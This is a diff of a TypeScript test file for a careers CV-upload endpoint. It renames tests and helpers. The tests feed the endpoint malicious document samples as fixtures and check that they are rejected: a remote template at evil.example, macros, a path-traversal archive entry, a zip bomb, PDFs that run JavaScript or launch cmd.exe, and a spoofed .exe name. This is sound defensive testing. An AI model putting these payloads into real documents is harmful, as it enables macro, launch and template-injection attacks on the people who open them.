@@ -1,13 +1,13 @@
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { makeApp } from '#server/app.ts';
-import { sendRequest, tokenFor } from '#test/client.ts';
-import type { Services } from '#test/db.ts';
+import { fetchApiToken, sendRequest } from '#test/client.ts';
+import type { TestServices } from '#test/db.ts';
 import { createTestServices } from '#test/db.ts';
 import { createPerson } from '#test/people.ts';
 import { wordFile } from '#test/servers/zip.ts';
 
-let services: Services;
+let services: TestServices;
 let app: FastifyInstance;
 let vacancy_id: number;
 beforeAll(async () => {
@@ -31,7 +31,7 @@ beforeAll(async () => {
 afterAll(() => app.close());
 beforeEach(() => services.database.db.deleteFrom('throttle').execute());
 
-describe('CV upload: accepts PDF and Word files without active content', () => {
+describe('CV upload', () => {
   const apply = (data: Buffer, name: string) =>
     sendRequest(app, '/api/v2/careers/apply/', {
       method: 'POST',
@@ -41,17 +41,17 @@ describe('CV upload: accepts PDF and Word files without active content', () => {
   test.each([
     ['a PDF', Buffer.from('%PDF-1.4\n%%EOF\n')],
     ['a Word file', wordFile()],
-  ])('upload: accepts %s', async (_, data) => {
+  ])('accepts %s', async (_, data) => {
     const answer = await apply(data, 'cv.docx');
     expect(answer.status, answer.text).toBe(200);
   });
 
   test.each([
-    ['with macros', wordFile({ 'word/vbaProject.bin': 'x' })],
-    ['with macros under another name', wordFile({ 'word/x.bin': 'x' }, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
+    ['a Word file with macros', wordFile({ 'word/vbaProject.bin': 'x' })],
+    ['a Word file with macros under another name', wordFile({ 'word/x.bin': 'x' }, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
     ['an old Word file, which may hold macros', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
-    ['a text', Buffer.from('I am Akinyi and I visit homes.')],
-  ])('%s is refused', async (_, data) => {
+    ['a text file', Buffer.from('I am Akinyi and I visit homes.')],
+  ])('rejects %s', async (_, data) => {
     expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'Choose a file of one of these types: pdf, docx.' } } });
   });
 
@@ -62,13 +62,13 @@ describe('CV upload: accepts PDF and Word files without active content', () => {
 
   const outside = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
   test.each([
-    ['a template from elsewhere', wordFile({ 'word/_rels/settings.xml.rels': `<Relationships>${outside}</Relationships>` })],
-    ['an embedded object', wordFile({ 'word/embeddings/object1.bin': 'x' })],
-    ['a name that leads out', wordFile({ '../../../../tmp/x.txt': 'x' })],
-    ['forty megabytes packed into a few kilobytes', wordFile({ 'word/media/a.bin': '\0'.repeat(40_000_000) })],
+    ['a Word file with an external template', wordFile({ 'word/_rels/settings.xml.rels': `<Relationships>${outside}</Relationships>` })],
+    ['a Word file with an embedded object', wordFile({ 'word/embeddings/object1.bin': 'x' })],
+    ['a Word file with a path that leads out of the archive', wordFile({ '../../../../tmp/x.txt': 'x' })],
+    ['a Word file of forty megabytes packed into a few kilobytes', wordFile({ 'word/media/a.bin': '\0'.repeat(40_000_000) })],
     ['a PDF that runs a script', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF')],
     ['a PDF that starts a program', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF')],
-  ])('%s is refused and said', async (_, data) => {
+  ])('rejects %s and names active content as the reason', async (_, data) => {
     const cv = 'The file contains active content, external links or too much compressed data. Save it as a plain PDF.';
     expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv } } });
   });
@@ -77,9 +77,9 @@ describe('CV upload: accepts PDF and Word files without active content', () => {
     ['cv.hta', 'cv.pdf', Buffer.from('%PDF-1.4\n<script language="VBScript">Run "calc"</script>')],
     ['\u202efdp.exe', 'fdp.pdf', Buffer.from('%PDF-1.4\n%another\n%%EOF\n')],
     ['../../cv.docm', 'cv.docx', wordFile({ 'word/more.xml': 'x' })],
-  ])('%j is handed out as what its bytes are: %s', async (sent, name, data) => {
+  ])('stores the file %j under a name that matches its content: %s', async (sent, name, data) => {
     expect((await apply(data, sent)).status).toBe(200);
-    const token = await tokenFor(app, await createPerson(services, 'admin'));
+    const token = await fetchApiToken(app, await createPerson(services, 'admin'));
     const { cv } = (await sendRequest(app, '/api/v2/careers/applications/?page=1', { token })).json.results[0];
     expect(cv.name).toBe(name);
     expect((await sendRequest(app, cv.url)).headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${name}`);
